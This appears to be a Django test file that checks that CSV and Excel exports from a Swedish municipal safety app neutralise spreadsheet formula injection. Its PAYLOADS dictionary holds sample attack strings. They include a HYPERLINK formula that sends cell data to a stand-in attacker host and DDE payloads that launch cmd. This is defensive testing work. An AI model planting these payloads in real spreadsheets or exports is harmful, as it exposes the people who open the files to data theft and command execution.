"""Every CSV and Excel export is safe to open: a text that starts like a formula (=, +, -, @, a tab or a carriage
return) is written with an apostrophe before it, whoever typed it, while a real number such as -3 stays a number.
A citizen's tip `=HYPERLINK(…)` must not become a live link in the samordnare's rapporter.csv; the action plan reads
back what it wrote."""

from __future__ import annotations

import csv
import io
from datetime import date
from typing import Any

from django.urls import reverse
from openpyxl import load_workbook

from lofte.areas.models import Area
from lofte.citizens.tips.actions import ACTOR, Tip, do_report_tip
from lofte.est.models import Category, Incident
from lofte.promises.bulk import plan
from lofte.promises.bulk.actions import do_import_plan
from lofte.promises.models import Promise, PromiseReport
from lofte.statistics.models import Event, ImportRun, Metric, Observation, Series
from tests.cases import WEEK, EstCase, FollowUpCase, at

# One text per dangerous first character, each something a spreadsheet would run.
PAYLOADS = {
    "=": '=HYPERLINK("http://angripare.example/?d="&A1;"Klicka här")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUMMA(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
STARTS = tuple(PAYLOADS)


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def sheet_rows(data: bytes) -> list[list[Any]]:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def _number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True


def live_formulas(rows: list[list[Any]]) -> list[str]:
    """The text cells a spreadsheet would read as a formula (a number such as -3 is a number, not a formula)."""
    return [
        cell for row in rows for cell in row if isinstance(cell, str) and cell.startswith(STARTS) and not _number(cell)
    ]


def neutralised(payload: str) -> str:
    return "'" + payload


class IncidentExportTest(EstCase):
    """rapporter.csv and .xlsx: what reporters and citizens wrote, cell for cell."""

    def setUp(self) -> None:
        self.incidents: dict[str, Incident] = {}
        for start, payload in PAYLOADS.items():
            [incident] = self.report(at(WEEK), description="Klotter på gaveln.")
            # Written as it arrived through any door (the admin, Open311, an older version): the form trims it.
            Incident.objects.filter(pk=incident.pk).update(description=payload, place_name=payload)
            self.incidents[start] = incident

    def export(self, fmt: str) -> bytes:
        response = self.client_for(self.samordnare).get(reverse("est_weekly:incidents_export", args=["mjolby", fmt]))
        self.assertEqual(response.status_code, 200)
        return response.content

    def test_a_citizens_hyperlink_tip_is_text_in_rapporter_csv(self) -> None:
        category = next(c for c in self.categories.values() if c.citizen)
        tip = do_report_tip(self.partnership_a, Tip(category, PAYLOADS["="], 58.3255, 15.1273), actor=ACTOR)
        rows = csv_rows(self.export("csv"))
        header = rows[0]
        row = next(row for row in rows if row[0] == str(tip.pk))
        self.assertEqual(row[header.index("description")], neutralised(PAYLOADS["="]))
        self.assertEqual(live_formulas(rows), [])

    def test_every_dangerous_start_is_neutralised_in_csv_and_xlsx(self) -> None:
        for fmt, read in (("csv", csv_rows), ("xlsx", sheet_rows)):
            rows = read(self.export(fmt))
            header = rows[0]
            self.assertEqual(live_formulas(rows), [], fmt)
            for start, incident in self.incidents.items():
                with self.subTest(fmt=fmt, start=repr(start)):
                    row = next(row for row in rows[1:] if str(row[0]) == str(incident.pk))
                    self.assertEqual(row[header.index("description")], neutralised(PAYLOADS[start]))
                    self.assertEqual(row[header.index("place_name")], neutralised(PAYLOADS[start]))

    def test_the_week_table_neutralises_a_category_name(self) -> None:
        klotter: Category = self.categories["skadegorelse.klotter"]
        for start, payload in PAYLOADS.items():
            with self.subTest(start=repr(start)):
                Category.objects.filter(pk=klotter.pk).update(name=payload)
                for fmt, read in (("csv", csv_rows), ("xlsx", sheet_rows)):
                    response = self.client_for(self.viewer).get(self.week_url(WEEK, "week_table", fmt))
                    rows = read(response.content)
                    self.assertEqual(live_formulas(rows), [], fmt)
                    row = next(row for row in rows if row[1] == "skadegorelse.klotter")
                    self.assertEqual(row[2], neutralised(payload))


class SituationExportTest(EstCase):
    """The lägesbild dashboard's tables: a partnership's own metric names and Polisen's event types."""

    def setUp(self) -> None:
        area = Area.objects.get(code="0586")
        run = ImportRun.objects.create(file_name="egen.csv", sha256="2" * 64, format="test", publisher="scb")
        for index, payload in enumerate(PAYLOADS.values()):
            metric = Metric.objects.create(code=f"egen.m{index}", name=payload, unit=Metric.Unit.ANTAL, publisher="scb")
            series = Series.objects.create(metric=metric, area=area)
            Observation.objects.create(
                series=series, period="2025", period_kind="year", period_start=date(2025, 1, 1), value=-3,
                import_run=run,
            )  # fmt: skip
            Event.objects.create(
                source_id=f"x{index}",
                occurred_at=at(WEEK),
                name="Händelse",
                type=payload,
                area=area,
                lat=58.3,
                lng=15.1,
            )

    def test_series_and_events_are_text_and_negative_values_numbers(self) -> None:
        client = self.client_for(self.viewer)
        for fmt, read in (("csv", csv_rows), ("xlsx", sheet_rows)):
            with self.subTest(fmt=fmt):
                series = read(client.get(f"/lagesbild/0586/serier.{fmt}", {"start": 2024}).content)
                events = read(client.get(f"/lagesbild/0586/handelser.{fmt}").content)
                self.assertEqual(live_formulas(series) + live_formulas(events), [])
                names = {row[1] for row in series[1:]}
                types = {row[0] for row in events[1:]}
                for payload in PAYLOADS.values():
                    self.assertIn(neutralised(payload), names)
                    # Event types are trimmed when counted: a tab or return in front is gone, the formula stays text.
                    self.assertIn(neutralised(payload.lstrip()), types)
                values = {row[3] for row in series[1:] if str(row[0]).startswith("egen.m")}
                self.assertEqual(values, {"-3"} if fmt == "csv" else {-3})


class PlanExportTest(FollowUpCase):
    """The action plan: a promise and a comment that look like formulas go out as text and come back as they were."""

    def setUp(self) -> None:
        self.round = self.planned()["2024 H1"]

    def test_the_plan_neutralises_and_reads_back_every_dangerous_start(self) -> None:
        promises = [self.watch, self.patrol, self.lighting]
        for start, payload in PAYLOADS.items():
            for fmt, read in (("csv", csv_rows), ("xlsx", sheet_rows)):
                with self.subTest(fmt=fmt, start=repr(start)):
                    Promise.objects.filter(pk=self.watch.pk).update(text=payload)
                    PromiseReport.objects.update_or_create(
                        round=self.round,
                        promise=self.patrol,
                        defaults={"status": "ej_paborjad", "progress": 0, "comment": payload},
                    )
                    data = plan.export_plan(self.lofte, fmt)
                    rows = read(data)
                    self.assertEqual(live_formulas(rows), [])
                    by_id = {str(row[0]): row for row in rows[1:]}
                    self.assertEqual(by_id[str(self.watch.pk)][2], neutralised(payload))
                    self.assertEqual(by_id[str(self.patrol.pk)][6], neutralised(payload))
                    preview = plan.read_plan(self.access(), self.lofte, data, f"plan.{fmt}")
                    self.assertEqual((preview.rows, preview.changes), (len(promises), ()))

    def test_a_comment_edited_to_a_formula_is_stored_as_typed(self) -> None:
        data = plan.export_plan(self.lofte, "csv").decode("utf-8-sig")
        rows = csv_rows(data.encode())
        row = next(row for row in rows if row[0] == str(self.lighting.pk))
        row[6] = neutralised("-5 % sedan förra året")
        out = io.StringIO()
        csv.writer(out, delimiter=";").writerows(rows)
        preview = plan.read_plan(self.access(), self.lofte, out.getvalue().encode(), "plan.csv")
        do_import_plan(self.access(), self.lofte, preview, actor=self.samordnare)
        report = PromiseReport.objects.get(round=self.round, promise=self.lighting)
        self.assertEqual(report.comment, "-5 % sedan förra året")
